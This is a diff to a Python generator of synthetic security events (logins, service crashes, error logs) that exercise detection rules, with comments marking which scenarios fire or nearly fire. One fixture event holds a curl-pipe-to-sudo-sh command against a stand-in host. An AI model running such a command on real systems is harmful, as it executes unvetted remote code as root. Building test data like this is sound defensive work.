@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
-"""Writes the sample's events, CloudEvents one a line: two hours of logins on a few hosts.
+"""Writes the sample's events, CloudEvents one a line: two hours of logins and services on a few hosts.
 
-Ordinary users have one address each, mistype now and then, and log out; what fires a rule, and what only nearly does, is
+Ordinary users have one address each, mistype now and then, and log out; services start quickly and log little; what fires a rule, and what only nearly does, is
 written out below as scenarios. The seed is fixed: the same bytes every time.
 """
 
@@ -25,8 +25,8 @@ def failed(second, user, src_ip, count=1, every=1):
         add(second + n * every, "sshd.failed_password", user=user, src_ip=src_ip, port=40000 + (second + n) % 9973)
 
 
-def accepted(second, user, src_ip):
-    add(second, "sshd.accepted", user=user, src_ip=src_ip)
+def accepted(second, user, src_ip, **more):
+    add(second, "sshd.accepted", user=user, src_ip=src_ip, **more)
 
 
 def brute_force():
@@ -94,7 +94,61 @@ def big_upload():
     upload(6400, "pia", 734003200)          # nearly: no login
 
 
+BERLIN, POTSDAM, NEW_YORK = ({"lat": lat, "lon": lon} for lat, lon in ((52.52, 13.41), (52.40, 13.05), (40.71, -74.01)))
+
+
+def travel():
+    accepted(300, "quin", "10.1.0.82", geo=BERLIN)           # fires impossible_travel
+    accepted(3900, "quin", "192.0.2.60", geo=NEW_YORK)
+    accepted(310, "rhea", "10.1.0.83", geo=BERLIN)           # nearly: the next town
+    accepted(1000, "rhea", "192.0.2.61", geo=POTSDAM)
+    accepted(320, "sam", "10.1.0.84", geo=BERLIN)            # nearly: nobody knows where that is
+    accepted(4000, "sam", "192.0.2.62")
+    accepted(2000, "svc-deploy", "203.0.113.40")             # fires admin_from_outside
+    accepted(2300, "svc-deploy", "203.0.113.40")             # nearly: once an hour
+    accepted(2900, "svc-deploy", "10.44.0.9")                # nearly: the office
+    accepted(3000, "svcdeploy", "203.0.113.40")              # nearly: no account with rights
+    add(3100, "sudo.command", user="ada", command="curl -s https://get.example | sudo sh")   # its rule is disabled
+
+
+def unit(second, host, name, state):
+    add(second, "systemd.unit", host=host, unit=name, state=state)
+
+
+def services():
+    for n in range(3):                                       # fires crash_loop, and stops it; unit_down, once
+        unit(1000 + 40 * n, "web-1", "shop", "starting")
+        unit(1012 + 40 * n, "web-1", "shop", "failed")
+    unit(1200, "web-2", "shop", "failed")                    # fires unit_down, and outage
+    for n in range(3):                                       # nearly: it runs in between
+        unit(2000 + 60 * n, "web-3", "cart", "starting")
+        unit(2005 + 60 * n, "web-3", "cart", "running")
+        unit(2030 + 60 * n, "web-3", "cart", "failed")       # fires unit_down, which is resolved twice
+    for host, took in (("web-1", 31), ("web-2", 30)):        # fires slow_start; nearly
+        unit(4000, host, "shop", "starting")
+        unit(4000 + took, host, "shop", "running")
+    unit(5000, "db-1", "store.socket", "failed")             # fires unit_down, low
+    unit(5700, "db-2", "store.socket", "failed")             # … again; nearly an outage: over ten minutes
+
+
+def log(second, host, level, text):
+    add(second, "syslog.entry", host=host, service="store", level=level, text=text)
+
+
+def errors():
+    for n in range(12):                                      # fires error_storm
+        log(5100 + 5 * n, f"db-{1 + n % 2}", "medium", f"E7 slow write, {40 + n} ms")
+    for n in range(12):                                      # nearly: too slow
+        log(5800 + 7 * n, "db-1", "medium", "E7 slow write")
+    log(5210, "db-1", "high", "E9 disk /data is nearly full")   # fires error
+    log(5215, "db-1", "high", "E9 disk /data is nearly full")   # nearly: once in five minutes
+    log(5220, "db-1", "critical", "E10 disk /data is full")     # fires error: another severity
+    log(5225, "db-2", "high", "E9 disk /data is nearly full")   # fires error: another host
+
+
 def ordinary():
+    for second in range(30, 7000, 240):
+        log(second, "db-1", "info", f"compacted {int(chance.random() * 900)} pages")
     for n, user in enumerate(USERS):
         second = 20 + 31 * n
         while second < 7000:
@@ -109,7 +163,7 @@ def ordinary():
             second += 600 + int(chance.random() * 600)
 
 
-for part in (brute_force, hammering, spray, two_places, new_admin, big_upload, ordinary):
+for part in (brute_force, hammering, spray, two_places, new_admin, big_upload, travel, services, errors, ordinary):
     part()
 for number, (second, kind, data) in enumerate(sorted(events, key=lambda e: e[0]), 1):
     time = (START + datetime.timedelta(seconds=second)).strftime("%Y-%m-%dT%H:%M:%SZ")
